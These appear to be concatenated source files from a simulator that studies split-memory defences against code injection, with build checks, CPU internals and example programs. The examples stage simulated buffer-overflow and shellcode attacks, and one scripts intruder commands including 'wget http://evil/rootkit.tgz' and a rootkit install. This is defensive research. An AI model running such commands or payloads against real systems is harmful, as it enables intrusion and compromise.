if(NOT DEFINED EXTRA_ARGS)
  set(EXTRA_ARGS "")
endif()

file(MAKE_DIRECTORY "${WORK_DIR}")
set(out_default "${WORK_DIR}/default.stdout")
set(out_cores1 "${WORK_DIR}/cores1.stdout")

execute_process(
  COMMAND "${BENCH}" ${EXTRA_ARGS} --no-progress
  OUTPUT_FILE "${out_default}"
  RESULT_VARIABLE rc_default)
execute_process(
  COMMAND "${BENCH}" ${EXTRA_ARGS} --cores=1 --no-progress
  OUTPUT_FILE "${out_cores1}"
  RESULT_VARIABLE rc_cores1)

if(NOT rc_default STREQUAL rc_cores1)
  message(FATAL_ERROR
    "${BENCH}: exit code differs between default (${rc_default}) and "
    "--cores=1 (${rc_cores1})")
endif()

execute_process(
  COMMAND ${CMAKE_COMMAND} -E compare_files "${out_default}" "${out_cores1}"
  RESULT_VARIABLE diff_rc)
if(NOT diff_rc EQUAL 0)
  message(FATAL_ERROR
    "${BENCH}: stdout differs between default and --cores=1 "
    "(compare ${out_default} vs ${out_cores1})")
endif()

message(STATUS
  "${BENCH}: --cores=1 output byte-identical to default (rc=${rc_default})")
