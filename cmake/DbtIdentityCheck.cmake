# Billing-identity regression for the basic-block (DBT) engine.
#
# Runs BENCH twice — once normally (block engine on, the build default)
# and once with SM_DBT=0 in the environment (runtime kill switch, same
# binary) — and fails unless both exit codes and every byte of stdout
# match: the block engine is a host-side fast path and must never change
# a simulated number (DESIGN.md §13 identity contract).
#
# Usage:
#   cmake -DBENCH=<path> -DWORK_DIR=<dir>
#         [-DEXTRA_ARGS=<arg;arg;...>] -P DbtIdentityCheck.cmake
if(NOT DEFINED BENCH OR NOT DEFINED WORK_DIR)
  message(FATAL_ERROR "DbtIdentityCheck: BENCH and WORK_DIR required")
endif()
if(NOT DEFINED EXTRA_ARGS)
  set(EXTRA_ARGS "")
endif()

file(MAKE_DIRECTORY "${WORK_DIR}")
set(out_dbt "${WORK_DIR}/dbt_on.stdout")
set(out_interp "${WORK_DIR}/dbt_off.stdout")

execute_process(
  COMMAND "${BENCH}" ${EXTRA_ARGS} --no-progress
  OUTPUT_FILE "${out_dbt}"
  RESULT_VARIABLE rc_dbt)
execute_process(
  COMMAND ${CMAKE_COMMAND} -E env SM_DBT=0
          "${BENCH}" ${EXTRA_ARGS} --no-progress
  OUTPUT_FILE "${out_interp}"
  RESULT_VARIABLE rc_interp)

if(NOT rc_dbt STREQUAL rc_interp)
  message(FATAL_ERROR
    "${BENCH}: exit code differs between block engine (${rc_dbt}) and "
    "SM_DBT=0 interpreter (${rc_interp})")
endif()

execute_process(
  COMMAND ${CMAKE_COMMAND} -E compare_files "${out_dbt}" "${out_interp}"
  RESULT_VARIABLE diff_rc)
if(NOT diff_rc EQUAL 0)
  message(FATAL_ERROR
    "${BENCH}: stdout differs between the block engine and the SM_DBT=0 "
    "interpreter (compare ${out_dbt} vs ${out_interp})")
endif()

message(STATUS
  "${BENCH}: SM_DBT=0 output byte-identical to block engine (rc=${rc_dbt})")
