# Determinism regression for the parallel experiment runner.
#
# Runs BENCH twice — `--jobs=1` and `--jobs=${JOBS}` — and fails unless
# both exit codes and every byte of stdout match: `--jobs` must never
# change simulated output (DESIGN.md §9 determinism contract).
#
# Usage:
#   cmake -DBENCH=<path> -DJOBS=<n> -DWORK_DIR=<dir>
#         [-DEXTRA_ARGS=<arg;arg;...>] -P DeterminismCheck.cmake
if(NOT DEFINED BENCH OR NOT DEFINED JOBS OR NOT DEFINED WORK_DIR)
  message(FATAL_ERROR "DeterminismCheck: BENCH, JOBS and WORK_DIR required")
endif()
if(NOT DEFINED EXTRA_ARGS)
  set(EXTRA_ARGS "")
endif()

file(MAKE_DIRECTORY "${WORK_DIR}")
set(out_serial "${WORK_DIR}/jobs1.stdout")
set(out_parallel "${WORK_DIR}/jobsN.stdout")

execute_process(
  COMMAND "${BENCH}" ${EXTRA_ARGS} --jobs=1 --no-progress
  OUTPUT_FILE "${out_serial}"
  RESULT_VARIABLE rc_serial)
execute_process(
  COMMAND "${BENCH}" ${EXTRA_ARGS} --jobs=${JOBS} --no-progress
  OUTPUT_FILE "${out_parallel}"
  RESULT_VARIABLE rc_parallel)

if(NOT rc_serial STREQUAL rc_parallel)
  message(FATAL_ERROR
    "${BENCH}: exit code differs between --jobs=1 (${rc_serial}) and "
    "--jobs=${JOBS} (${rc_parallel})")
endif()

execute_process(
  COMMAND ${CMAKE_COMMAND} -E compare_files "${out_serial}" "${out_parallel}"
  RESULT_VARIABLE diff_rc)
if(NOT diff_rc EQUAL 0)
  message(FATAL_ERROR
    "${BENCH}: stdout differs between --jobs=1 and --jobs=${JOBS} "
    "(compare ${out_serial} vs ${out_parallel})")
endif()

message(STATUS
  "${BENCH}: --jobs=${JOBS} output byte-identical to --jobs=1 (rc=${rc_serial})")
