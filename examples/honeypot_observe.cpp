// Honeypot example: run the WU-FTPD victim under OBSERVE and FORENSICS
// response modes (paper §4.5, §6.1.3 / Fig. 5) with Sebek-style logging.
//
// Observe mode lets the detected attack continue so the attacker's
// two-stage shellcode, connect-back shell, and typed commands can all be
// captured; forensics mode dumps the injected shellcode and replaces it
// with exit(0) so the daemon dies gracefully instead of being owned.
#include <cstdio>

#include "attacks/realworld.h"
#include "attacks/shellcode.h"

using namespace sm;
using namespace sm::attacks::realworld;

int main() {
  std::printf("honeypot example: WU-FTPD (7350wurm) under split memory\n\n");

  {
    std::printf("== observe mode: let the attack run, watch everything ==\n");
    AttackOptions opts;
    opts.response = core::ResponseMode::kObserve;
    opts.attach_sebek = true;
    opts.shell_commands = {"id", "wget http://evil/rootkit.tgz",
                           "tar xzf rootkit.tgz", "./rootkit/install"};
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
    std::printf("attack detected: %s; shell spawned anyway: %s\n",
                r.detected ? "yes" : "no", r.shell_spawned ? "yes" : "no");
    std::printf("\nSebek log of the intruder's session:\n%s\n",
                r.sebek_log.c_str());
  }

  {
    std::printf("== forensics mode: dump the payload, exit cleanly ==\n");
    AttackOptions opts;
    opts.response = core::ResponseMode::kForensics;
    const AttackResult r =
        run_attack(Exploit::kWuFtpd, core::ProtectionMode::kSplitAll, opts);
    std::printf("attack detected: %s; shell spawned: %s\n",
                r.detected ? "yes" : "no", r.shell_spawned ? "yes" : "no");
    std::printf("\nfirst bytes of the injected shellcode (note the 0x90 NOP "
                "sled,\nexactly as in the paper's Fig. 5c):\n%s\n",
                r.forensic_dump.c_str());
  }
  return 0;
}
