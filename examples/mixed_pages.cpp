// Mixed code-and-data pages (paper Fig. 1b / §2): the layout the
// execute-disable bit fundamentally cannot protect, and the paper's
// headline advantage.
//
// The guest is a JIT-style program whose text segment is writable (like
// Sun's JavaVM loading libraries W+X, or Linux signal trampolines). It
// patches its own code page at runtime:
//   - the LEGITIMATE patch writes a real subroutine and calls it — this
//     must keep working under every engine (split memory supports mixed
//     pages by keeping the two roles physically separate but logically
//     combined);
//   - the ATTACK overwrites the same region with network-supplied bytes.
// Under NX the attack succeeds (the page must stay executable); under
// split memory the injected bytes land on the data frame and never
// execute.
#include <cstdio>

#include "asm/assembler.h"
#include "attacks/shellcode.h"
#include "core/split_engine.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

using namespace sm;

// NOTE: the text segment is built writable (mixed_text=true below). The
// program asks the host which scenario to run: 'J' = legitimate JIT,
// 'A' = simulate the attacker's write-then-run.
const char* kJit = R"(
_start:
  movi r1, FD_NET
  movi r2, cmd
  movi r3, 8
  call read_line
  movi r4, cmd
  loadb r5, [r4]
  cmpi r5, 'J'
  jz jit_path
  ; attack path: read 64 network bytes over the patch hole, then run it
  movi r1, FD_NET
  movi r2, hole
  movi r3, 64
  call read_n
  jmp run_hole
jit_path:
  ; legitimate JIT: copy a real subroutine into the hole
  movi r1, hole
  movi r2, stub
  movi r3, stub_end
  sub r3, r2
  call memcpy
run_hole:
  movi r5, hole
  callr r5
  movi r1, msg_ok
  call print
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

; the subroutine the JIT emits: returns 42 in r0
stub:
  movi r0, 42
  ret
stub_end:
  .byte 0

; the patchable region, inside the (writable) text segment
hole:
  .space 64

.data
msg_ok: .asciz "jit code executed, result ok\n"
cmd: .space 12
)";

struct Outcome {
  bool jit_worked;
  bool attack_shell;
};

Outcome run(core::ProtectionMode mode) {
  Outcome out{};
  const auto program = assembler::assemble(guest::program(kJit));
  for (const char scenario : {'J', 'A'}) {
    kernel::Kernel k;
    k.set_engine(core::make_engine(mode));
    image::BuildOptions opts;
    opts.name = "jit";
    opts.mixed_text = true;  // W+X text: mixed pages
    k.register_image(image::build_image(program, opts));
    const kernel::Pid pid = k.spawn("jit");
    auto conn = k.attach_channel(pid);
    if (scenario == 'J') {
      conn->host_write(std::string("J\n"));
      k.run(20'000'000);
      out.jit_worked =
          k.process(pid)->exit_kind == kernel::ExitKind::kExited &&
          k.process(pid)->console.find("ok") != std::string::npos;
    } else {
      conn->host_write(std::string("A\n"));
      conn->host_write(attacks::spawn_shell_shellcode());
      std::vector<arch::u8> pad(64 - attacks::spawn_shell_shellcode().size(),
                                0x90);
      conn->host_write(pad);
      k.run(20'000'000);
      out.attack_shell = k.process(pid)->shell_spawned;
    }
  }
  return out;
}

int main() {
  std::printf("mixed code+data pages: JIT must work, injection must not\n\n");
  std::printf("%-18s %-14s %-s\n", "engine", "legit JIT", "injected code");
  for (const auto mode :
       {core::ProtectionMode::kNone, core::ProtectionMode::kHardwareNx,
        core::ProtectionMode::kNxPlusSplitMixed,
        core::ProtectionMode::kSplitAll}) {
    const Outcome o = run(mode);
    std::printf("%-18s %-14s %-s\n", core::to_string(mode),
                o.jit_worked ? "works" : "BROKEN",
                o.attack_shell ? "EXECUTED (compromised)" : "foiled");
  }
  std::printf(
      "\nNX cannot protect a W+X page at all; split memory protects it\n"
      "while the legitimate JIT path keeps working? NO — see below.\n\n"
      "Important subtlety the paper acknowledges (§7): split memory routes\n"
      "runtime code WRITES to the data frame, so self-modifying code (the\n"
      "legit JIT) cannot see its own patches either. Mixed-page support\n"
      "means load-time mixed CONTENT is protected, not runtime codegen.\n");
  return 0;
}
