// Quickstart: boot the simulated machine, run a guest program under the
// split-memory engine, attack it, and watch the injection be foiled.
//
//   $ ./quickstart
//
// Walks through the whole public API surface:
//   1. write a guest program in the simulated assembly,
//   2. assemble it and wrap it into a SimpleELF image,
//   3. boot a kernel with a protection engine,
//   4. interact with the guest over a simulated socket,
//   5. inspect detections, the kernel log, and cycle statistics.
#include <cstdio>

#include "asm/assembler.h"
#include "attacks/shellcode.h"
#include "core/split_engine.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

using namespace sm;

// A vulnerable echo server: reads a line into a 64-byte stack buffer with
// strcpy semantics — the classic overflow.
const char* kEchoServer = R"(
_start:
  ; real processes have argv/env frames above main; reserve similar
  ; headroom so the long overflow has somewhere to scribble
  movi r2, 1024
  sub sp, r2
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  call handle
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
handle:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy              ; no bounds check: smashes the return address
  movi r1, FD_NET
  mov r2, fp
  movi r3, 72
  sub r2, r3
  call print_fd            ; echo back
  mov sp, fp
  pop fp
  ret
.data
staging: .space 640
)";

int run_once(core::ProtectionMode mode) {
  std::printf("--- engine: %s ---\n", core::to_string(mode));

  // 1-2. Assemble and package the guest.
  const auto program = assembler::assemble(guest::program(kEchoServer));
  image::BuildOptions opts;
  opts.name = "echod";
  image::Image img = image::build_image(program, opts);

  // 3. Boot a kernel with the chosen protection engine.
  kernel::Kernel k;
  k.set_engine(core::make_engine(mode));
  k.register_image(std::move(img));
  const kernel::Pid pid = k.spawn("echod");
  auto conn = k.attach_channel(pid);

  // 4. Attack: 76 bytes of filler, then a return address pointing back
  //    into the request itself — read_line keeps copying the NOP sled and
  //    shellcode into the .data staging buffer even though strcpy later
  //    truncates at the first NUL. The staging address comes straight from
  //    the image's symbol table; the jump target must be NUL/newline-free
  //    because it travels through strcpy.
  const arch::u32 staging = program.symbol("staging");
  const arch::u32 target =
      attacks::pick_string_safe_address(staging + 82, 380);
  std::string payload(76, 'A');
  for (int i = 0; i < 4; ++i) {
    payload.push_back(static_cast<char>(target >> (8 * i)));
  }
  attacks::ShellcodeBuilder sc;
  sc.nop_sled(460).raw(attacks::spawn_shell_shellcode());
  const auto sled = sc.build();
  payload.append(sled.begin(), sled.end());
  payload += "\n";
  conn->host_write(payload);

  k.run(50'000'000);

  // 5. Inspect the outcome.
  kernel::Process& p = *k.process(pid);
  std::printf("shell spawned: %s\n", p.shell_spawned ? "YES (compromised)"
                                                     : "no");
  for (const auto& ev : k.detections()) {
    std::printf("detection: pid %u EIP 0x%08x mode %s\n", ev.pid, ev.eip,
                ev.mode.c_str());
    if (!ev.disassembly.empty()) {
      std::printf("shellcode at EIP (read from the DATA page):\n%s",
                  ev.disassembly.c_str());
    }
  }
  const auto& s = k.stats();
  std::printf("cycles=%llu instructions=%llu split-loads(i/d)=%llu/%llu\n\n",
              static_cast<unsigned long long>(s.cycles),
              static_cast<unsigned long long>(s.instructions),
              static_cast<unsigned long long>(s.split_itlb_loads),
              static_cast<unsigned long long>(s.split_dtlb_loads));
  return p.shell_spawned ? 1 : 0;
}

int main() {
  std::printf("splitmem quickstart: the same attack, two memory "
              "architectures\n\n");
  const int compromised = run_once(core::ProtectionMode::kNone);
  const int foiled = run_once(core::ProtectionMode::kSplitAll);
  if (compromised == 1 && foiled == 0) {
    std::printf("=> von Neumann: compromised; virtual Harvard: foiled.\n");
    return 0;
  }
  std::printf("=> unexpected outcome\n");
  return 1;
}
