// Dynamic library loading with DigSig-style signature verification
// (paper §4.3): "memory splitting could simply validate the signature of
// the loaded library prior to loading and splitting it."
//
// A plugin host dlopen()s two libraries: one signed with the kernel's key,
// one tampered with after signing. The kernel loads and splits the valid
// one and refuses the trojaned one.
#include <cstdio>

#include "asm/assembler.h"
#include "core/split_engine.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

using namespace sm;

const char* kHost = R"(
_start:
  ; load the good plugin and call its entry point
  movi r0, SYS_DLOPEN
  movi r1, good_path
  syscall
  cmpi r0, -1
  jz good_failed
  mov r5, r0             ; plugin entry = its base address
  movi r1, msg_good
  call print
  callr r5
  jmp try_bad
good_failed:
  movi r1, msg_goodfail
  call print
try_bad:
  movi r0, SYS_DLOPEN
  movi r1, bad_path
  syscall
  cmpi r0, -1
  jz bad_refused
  movi r1, msg_badloaded
  call print
  movi r0, SYS_EXIT
  movi r1, 2
  syscall
bad_refused:
  movi r1, msg_badref
  call print
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
.data
good_path: .asciz "libgood"
bad_path: .asciz "libevil"
msg_good: .asciz "libgood: signature valid, loaded\n"
msg_goodfail: .asciz "libgood: LOAD FAILED\n"
msg_badloaded: .asciz "libevil: LOADED (verification failed us!)\n"
msg_badref: .asciz "libevil: refused (bad signature)\n"
)";

// Libraries live at their own base addresses so they never collide with
// the host program.
image::Image make_library(const std::string& name, arch::u32 base) {
  assembler::Layout layout;
  layout.text_base = base;
  layout.data_base = base + 0x10000;
  layout.bss_base = base + 0x20000;
  const auto program = assembler::assemble(R"(
lib_entry:
  ret
)",
                                           layout);
  image::BuildOptions opts;
  opts.name = name;
  opts.entry_symbol = "lib_entry";
  return image::build_image(program, opts);
}

int main() {
  std::printf("signed library loading (DigSig-style, paper 4.3)\n\n");

  const std::vector<arch::u8> key = {'k', '3', 'y'};
  kernel::KernelConfig cfg;
  cfg.require_signatures = true;
  cfg.signing_key = key;

  kernel::Kernel k(cfg);
  k.set_engine(core::make_engine(core::ProtectionMode::kSplitAll));

  // The host binary, properly signed.
  const auto host_prog = assembler::assemble(guest::program(kHost));
  image::BuildOptions host_opts;
  host_opts.name = "plugin-host";
  image::Image host = image::build_image(host_prog, host_opts);
  host.sign(key);
  k.register_image(std::move(host));

  // A valid plugin and a trojaned one (modified after signing).
  image::Image good = make_library("libgood", 0x40000000);
  good.sign(key);
  k.register_image(std::move(good));

  image::Image evil = make_library("libevil", 0x48000000);
  evil.sign(key);
  evil.segments[0].bytes[0] = 0x90;  // the "trojan": patched post-signing
  k.register_image(std::move(evil));

  const kernel::Pid pid = k.spawn("plugin-host");
  k.run(10'000'000);

  std::printf("%s", k.process(pid)->console.c_str());
  std::printf("\nkernel log:\n");
  for (const auto& line : k.klog()) std::printf("  %s\n", line.c_str());
  return k.process(pid)->exit_code == 0 ? 0 : 1;
}
