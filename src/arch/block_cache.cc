#include "arch/block_cache.h"

namespace sm::arch {

BlockCache::BlockCache(u32 num_entries)
    : mask_(num_entries - 1), entries_(num_entries) {
  if (num_entries == 0 || (num_entries & (num_entries - 1)) != 0) {
    throw std::invalid_argument("block cache size must be a power of two");
  }
}

void BlockCache::clear() {
  for (Block& b : entries_) b = Block{};
}

}  // namespace sm::arch
