// Physically-keyed basic-block cache: the mini-DBT layer over the decode
// cache (DESIGN.md §13).
//
// A block is a run of decoded instructions starting at a physical entry
// address and ending at the first control-flow instruction, page
// boundary, straddling instruction, or the block-length cap. Blocks are
// recorded by Cpu::record_block() while the per-instruction engine
// executes them (so the recording pass bills and behaves exactly like the
// interpreter), then re-executed wholesale by Cpu::run_block() —
// amortizing fetch translation, decode-cache probes, and dispatch across
// the block.
//
// Keying and coherence follow DecodeCache exactly, one level up:
//   - the key is the PHYSICAL address of the entry instruction's first
//     byte, so split-page data stores can never alias a block, Algorithm-1
//     PTE repoints need no flush (the next fetch translates elsewhere and
//     misses), and processes sharing a text frame share its blocks;
//   - every instruction of a block lives in the entry frame (recording
//     stops at the page edge and never records a straddling instruction),
//     so ONE frame-generation check at block entry — plus a re-check after
//     any in-block store, for same-page self-modifying code — covers every
//     byte the block decoded from.
//
// This is HOST-side machinery only: simulated cycles, stats, and trace
// attribution are billed exactly as the per-instruction engine would have
// billed them (see Cpu::run_block for the accounting argument), so all
// figures are bit-identical with the block engine on or off. Only the
// block_cache_* counters in metrics::Stats — host-side by contract, like
// decode_cache_* — observe the difference.
#pragma once

#include <cstddef>
#include <stdexcept>
#include <vector>

#include "arch/decode_cache.h"
#include "arch/types.h"

// Two-layer gating, same pattern as SM_TRACE/SM_INVARIANT: -DSM_DBT=OFF
// defines SM_DBT_ENABLED=0 and the kernel run loop's block dispatch
// compiles out (this cache and Cpu::step_block always compile — tests and
// benches drive them directly); at runtime KernelConfig::dbt and the
// SM_DBT environment variable ("0" = off) gate the same-binary identity
// diffs.
#ifndef SM_DBT_ENABLED
#define SM_DBT_ENABLED 1
#endif

namespace sm::arch {

class BlockCache {
 public:
  static constexpr u32 kDefaultEntries = 1024;
  static constexpr u32 kMaxInstructions = 32;
  static constexpr u64 kInvalidPa = ~u64{0};

  struct Block {
    u64 pa = kInvalidPa;  // physical address of the entry instruction
    u64 gen = 0;          // PhysicalMemory::generation() of the entry frame
    u32 pfn = 0;          // entry frame, for mid-block generation re-checks
    u32 count = 0;
    Decoded instr[kMaxInstructions];
  };

  explicit BlockCache(u32 num_entries = kDefaultEntries);

  // Direct-mapped slot for an entry physical address (same hash as
  // DecodeCache::slot: frame number XORed in so hot same-offset entries of
  // different code pages do not thrash one slot).
  Block& slot(u64 pa) {
    return entries_[static_cast<u32>(pa ^ (pa >> kPageShift)) & mask_];
  }

  void clear();

  u32 capacity() const { return static_cast<u32>(entries_.size()); }

 private:
  u32 mask_;
  std::vector<Block> entries_;
};

}  // namespace sm::arch
