#include "arch/cpu.h"

namespace sm::arch {

namespace {

// Block recording stops at (and includes) the first control-flow
// instruction: its successor is not statically known, so it must be the
// block's last member. kSyscall counts — it completes with a trap the
// kernel services before execution may continue.
bool is_terminator(Op op) {
  switch (op) {
    case Op::kJmp:
    case Op::kJz:
    case Op::kJnz:
    case Op::kJlt:
    case Op::kJge:
    case Op::kJb:
    case Op::kJae:
    case Op::kJmpr:
    case Op::kCall:
    case Op::kCallr:
    case Op::kRet:
    case Op::kSyscall:
      return true;
    default:
      return false;
  }
}

// Instructions that can store to guest memory and therefore, on an
// unsplit page, rewrite code the current block decoded from. (kCall and
// kCallr also push, but they are terminators: nothing of the block runs
// after them, so their stores need no mid-block generation re-check.)
bool writes_memory(Op op) {
  switch (op) {
    case Op::kStore:
    case Op::kStoreb:
    case Op::kPush:
      return true;
    default:
      return false;
  }
}

// Instructions whose execute() can throw (memory access -> page fault,
// divide -> #DE). Register-only instructions cannot fault once decoded
// (operands were validated at decode time), so the block runner skips
// their rollback snapshot.
bool may_fault(Op op) {
  switch (op) {
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
    case Op::kPush:
    case Op::kPop:
    case Op::kCall:
    case Op::kCallr:
    case Op::kRet:
    case Op::kDiv:
    case Op::kModu:
      return true;
    default:
      return false;
  }
}

}  // namespace

void Cpu::check_reg(u8 r) const {
  if (r >= kNumRegs) {
    throw TrapException(Trap::simple(TrapKind::kGeneralProtection));
  }
}

Decoded Cpu::fetch_decode() {
  // One real translation for the first byte: bills the I-TLB hit/miss (and
  // any walk or fault) exactly as the byte-at-a-time path's first fetch
  // would, and yields the physical key for the decode cache.
  return fetch_decode_at(mmu_->translate(regs_.pc, Access::kFetch));
}

Decoded Cpu::fetch_decode_at(u64 pa) {
  const u32 pc = regs_.pc;
  PhysicalMemory& pm = mmu_->phys();
  const u64 gen = pm.generation(static_cast<u32>(pa >> kPageShift));

  DecodeCache::Entry* slot = dcache_enabled_ ? &dcache_.slot(pa) : nullptr;
  if (slot != nullptr && slot->pa == pa) {
    if (slot->gen == gen) {
      // Hit. Only non-straddling instructions are cached, so in the slow
      // path bytes 1..len-1 would have been guaranteed I-TLB hits on the
      // very entry byte 0 just used (inserted on its miss, or already
      // present). Bill those hits wholesale; the LRU outcome is identical
      // because consecutive touches of one entry collapse.
      ++stats_->decode_cache_hits;
      const u32 extra = slot->d.len - 1;
      stats_->itlb_hits += extra;
      stats_->cycles += extra * cost_->tlb_hit;
      mmu_->itlb().touch_last(extra);
      SM_TRACE(trace_,
               charge(trace::Category::kTlbHit, extra * cost_->tlb_hit, pc));
      return slot->d;
    }
    // Same physical location, stale frame generation: the code frame was
    // rewritten (self-modifying code, exec, forensic injection, frame
    // reuse) — re-decode from the current bytes.
    ++stats_->decode_cache_invalidations;
  }
  if (slot != nullptr) ++stats_->decode_cache_misses;

  const u8 opcode = pm.read8(pa);
  const u32 len = instr_length(opcode);
  if (len == 0) {
    throw TrapException(Trap::invalid_opcode(opcode));
  }
  u8 bytes[kMaxInstrLength] = {opcode};
  for (u32 i = 1; i < len; ++i) bytes[i] = mmu_->fetch8(pc + i);

  Decoded d;
  d.op = static_cast<Op>(opcode);
  d.len = len;
  auto imm_at = [&](u32 off) {
    return static_cast<u32>(bytes[off]) |
           (static_cast<u32>(bytes[off + 1]) << 8) |
           (static_cast<u32>(bytes[off + 2]) << 16) |
           (static_cast<u32>(bytes[off + 3]) << 24);
  };
  switch (d.op) {
    case Op::kMovi:
    case Op::kAddi:
    case Op::kCmpi:
      d.ra = bytes[1];
      d.imm = imm_at(2);
      break;
    case Op::kMov:
    case Op::kAdd:
    case Op::kSub:
    case Op::kMul:
    case Op::kDiv:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kShl:
    case Op::kShr:
    case Op::kCmp:
    case Op::kModu:
      d.ra = bytes[1];
      d.rb = bytes[2];
      break;
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
      d.ra = bytes[1];
      d.rb = bytes[2];
      d.imm = imm_at(3);
      break;
    case Op::kJmp:
    case Op::kJz:
    case Op::kJnz:
    case Op::kJlt:
    case Op::kJge:
    case Op::kJb:
    case Op::kJae:
    case Op::kCall:
      d.imm = imm_at(1);
      break;
    case Op::kJmpr:
    case Op::kCallr:
    case Op::kPush:
    case Op::kPop:
    case Op::kNot:
      d.ra = bytes[1];
      break;
    case Op::kRet:
    case Op::kSyscall:
    case Op::kNop:
      break;
  }
  if (d.len >= 2 && d.op != Op::kJmp && d.op != Op::kJz && d.op != Op::kJnz &&
      d.op != Op::kJlt && d.op != Op::kJge && d.op != Op::kJb &&
      d.op != Op::kJae && d.op != Op::kCall) {
    check_reg(d.ra);
  }
  switch (d.op) {
    case Op::kMov:
    case Op::kAdd:
    case Op::kSub:
    case Op::kMul:
    case Op::kDiv:
    case Op::kAnd:
    case Op::kOr:
    case Op::kXor:
    case Op::kShl:
    case Op::kShr:
    case Op::kCmp:
    case Op::kModu:
    case Op::kLoad:
    case Op::kStore:
    case Op::kLoadb:
    case Op::kStoreb:
      check_reg(d.rb);
      break;
    default:
      break;
  }
  // Memoize fully validated decodes whose bytes live in one frame; a
  // straddling tail sits in a second frame the entry's generation key
  // cannot cover, so those always take the slow path above.
  if (slot != nullptr && page_offset(pc) + len <= kPageSize) {
    slot->pa = pa;
    slot->gen = gen;
    slot->d = d;
  }
  return d;
}

void Cpu::push(u32 v) {
  const u32 nsp = regs_.sp() - 4;
  mmu_->write32(nsp, v);
  regs_.sp() = nsp;
}

u32 Cpu::pop() {
  const u32 v = mmu_->read32(regs_.sp());
  regs_.sp() += 4;
  return v;
}

std::optional<Trap> Cpu::step() {
  const Regs snapshot = regs_;
  const bool tf_at_start = regs_.tf();
  stats_->cycles += cost_->cycles_per_instr;
  // Deliberately not mirrored to the trace profiler: a per-step mirror
  // would put a trace branch on the hottest path in the simulator.
  // TraceSink::summary() reconciles these cycles as the exec residual.
  try {
    const Decoded d = fetch_decode();
    auto trap = execute(d);
    ++stats_->instructions;
    if (trap) return trap;  // kSyscall: pc already advanced
    if (tf_at_start) {
      ++stats_->single_steps;
      return Trap::simple(TrapKind::kDebugStep);
    }
    return std::nullopt;
  } catch (const TrapException& e) {
    regs_ = snapshot;  // faults restore architectural state for restart
    return e.trap();
  }
}

Cpu::BlockStep Cpu::step_block(u64 max_attempts, u64 cycle_stop) {
  // Chained dispatch: blocks run back to back until the budget is spent
  // or a trap ends the chain. Chaining is observationally identical to
  // the caller invoking step_block once per block — between two chained
  // blocks no trap was raised, so nothing (TF, pending syscall retry,
  // injected faults — all excluded by the caller before choosing the
  // block path) could have diverted control — and it amortizes the
  // per-dispatch overhead the same way the kernel's slice-sized budgets
  // expect. A cycle bound clips the chain (and the blocks inside it) at
  // instruction granularity, exactly where the step() loop would stop.
  BlockStep out;
  while (out.attempts < max_attempts &&
         !(cycle_stop != 0 && stats_->cycles >= cycle_stop)) {
    // The entry instruction's issue cycle and byte-0 translation, billed
    // exactly as step() -> fetch_decode() would bill them. The
    // translation also yields the physical key for the block-cache probe.
    stats_->cycles += cost_->cycles_per_instr;
    u64 pa;
    try {
      pa = mmu_->translate(regs_.pc, Access::kFetch);
    } catch (const TrapException& e) {
      // translate() mutates no architectural state, so there is nothing
      // to roll back: report the fetch fault as one attempted
      // instruction.
      ++out.attempts;
      out.trap = e.trap();
      return out;
    }
    const u64 gen =
        mmu_->phys().generation(static_cast<u32>(pa >> kPageShift));
    BlockCache::Block& b = bcache_.slot(pa);
    BlockStep bs;
    if (b.pa == pa && b.gen == gen) {
      ++stats_->block_cache_hits;
      bs = run_block(b, max_attempts - out.attempts, cycle_stop);
    } else {
      if (b.pa == pa) {
        // The entry frame was rewritten since the block was recorded
        // (SMC, exec, frame reuse): every decode in it is suspect.
        ++stats_->block_cache_invalidations;
      }
      ++stats_->block_cache_misses;
      bs = record_block(b, pa, gen, max_attempts - out.attempts, cycle_stop);
    }
    out.attempts += bs.attempts;
    if (bs.trap) {
      out.trap = bs.trap;
      return out;
    }
  }
  return out;
}

// flatten: inline the whole execute() switch (and the billing helpers)
// into the block runner's loop — this is the simulator's hottest path and
// the out-of-line dispatch call is measurable against the ~8 ns/instr
// budget the 3x target implies.
[[gnu::flatten]] Cpu::BlockStep Cpu::run_block(BlockCache::Block& b,
                                               u64 budget, u64 cycle_stop) {
  // Billing, wholesale but bit-identical to the per-instruction engine.
  // Entry instruction: issue cycle and byte 0 already billed by
  // step_block; add bytes 1..len-1 as the guaranteed I-TLB hits they are
  // (the decode-cache hit path's argument: byte 0's entry serves them).
  // Later instructions: byte 0 is a guaranteed hit too — the entry fetch
  // loaded the code page's I-TLB entry and nothing inside a block can
  // evict it — so bill the issue cycle plus len hits. Byte 0's tlb_hit
  // cycles stay unmirrored to the trace profiler exactly like step()'s
  // translate (reconciled as exec residual); the extras are charged to
  // kTlbHit as the decode-cache hit path charges them. Deferred counters
  // (instructions, itlb_hits) are flushed at every exit; cycles are billed
  // before each execute() so any trace event it emits sees the same clock
  // the per-instruction engine would have stamped.
  BlockStep out;
  PhysicalMemory& pm = mmu_->phys();
  Regs snapshot;
  u64 retired = 0;  // deferred stats_->instructions / block_instructions
  u64 hits = 0;     // deferred stats_->itlb_hits
  const auto flush = [&] {
    stats_->instructions += retired;
    stats_->block_instructions += retired;
    stats_->itlb_hits += hits;
    // Match the slow path's LRU clock tick-per-hit; all hits are on the
    // block's own code-page entry, and nothing inside the block touches
    // the I-TLB, so one wholesale advance at exit is exact.
    mmu_->itlb().touch_last(hits);
  };
  // The try sits OUTSIDE the loop so the hot path carries no per-iteration
  // exception-handling boundary; a throw aborts the block at the faulting
  // instruction, whose snapshot (taken just before its execute) is the one
  // restored — identical to a per-instruction try.
  try {
    // i == 0 is exempt from the cycle bound: step_block already billed its
    // issue cycle (the caller's bound check happened before that), so the
    // per-instruction engine would have executed it too.
    for (u32 i = 0; i < b.count && out.attempts < budget &&
